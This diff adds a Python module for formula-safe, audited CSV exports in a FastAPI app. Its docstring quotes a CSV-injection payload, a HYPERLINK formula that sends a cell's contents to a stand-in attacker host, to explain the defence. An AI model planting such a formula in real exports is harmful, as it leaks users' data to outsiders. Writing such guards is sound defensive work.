@@ -1,0 +1,70 @@
+"""CSV downloads: every export goes through ``csv_download`` so each one is formula-safe and
+audited.
+
+A cell such as ``=HYPERLINK("https://evil.example?"&A2, "Open")`` typed into a contact's name
+runs as a formula when the export is opened in Excel or LibreOffice (CSV injection, OWASP). A
+text cell starting with ``= + - @``, a tab or a carriage return gets a leading ``'``, which
+spreadsheets read as "this is text" and do not show. Numbers are written as numbers.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable, Mapping, Sequence
+from typing import Any
+
+from fastapi.responses import StreamingResponse
+from sqlalchemy.orm import Session
+
+from tenure.auth import audit
+from tenure.auth.permissions import Actor
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """A cell value no spreadsheet will run as a formula; None becomes an empty cell.
+
+    >>> [spreadsheet_safe(v) for v in ["=1+1", "-2", "@SUM(A1)", "Acme", -2, None]]
+    ["'=1+1", "'-2", "'@SUM(A1)", 'Acme', -2, '']
+    """
+    if value is None:
+        return ""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> tuple[str, int]:
+    """The CSV (header first) and how many rows it holds."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow(columns)
+    count = 0
+    for row in rows:
+        writer.writerow([spreadsheet_safe(row[column]) for column in columns])
+        count += 1
+    return buffer.getvalue(), count
+
+
+def csv_download(
+    db: Session,
+    actor: Actor,
+    *,
+    export: str,
+    filename: str,
+    columns: Sequence[str],
+    rows: Iterable[Mapping[str, Any]],
+    filters: Mapping[str, Any],
+) -> StreamingResponse:
+    """The download, recorded in the audit log as ``export.csv`` with its filters and size."""
+    text, count = csv_text(columns, rows)
+    audit.record(
+        db, actor, "export.csv", export, None, after={"rows": count, "filters": dict(filters)}
+    )
+    return StreamingResponse(
+        iter([text]),
+        media_type="text/csv; charset=utf-8",
+        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
+    )
